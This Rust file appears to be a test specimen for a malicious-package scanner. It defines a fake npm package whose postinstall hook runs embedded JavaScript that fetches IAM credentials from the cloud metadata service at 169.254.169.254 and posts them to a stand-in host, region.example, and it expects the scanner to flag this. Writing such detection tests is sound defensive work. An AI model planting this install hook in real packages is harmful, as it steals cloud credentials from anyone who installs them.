//! An npm `postinstall` that asks the cloud's metadata service for credentials and passes the answer on.
//!
//! Must be found.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const REGION_JS: &str = r"const http = require('http');
const https = require('https');
http.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/', (answer) => {
  let text = '';
  answer.on('data', (part) => { text += part; });
  answer.on('end', () => {
    const request = https.request('https://region.example/', { method: 'POST' }, (reply) => reply.resume());
    request.on('error', () => {});
    request.end(text);
  });
}).on('error', () => {});
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("cloud-region", "1.0.2")
        .file("region.js", REGION_JS)
        .script("postinstall", "node region.js");
    package.specimen(
        "npm-metadata-service",
        Expect::suspicious(&["metadata-service"]),
    )
}
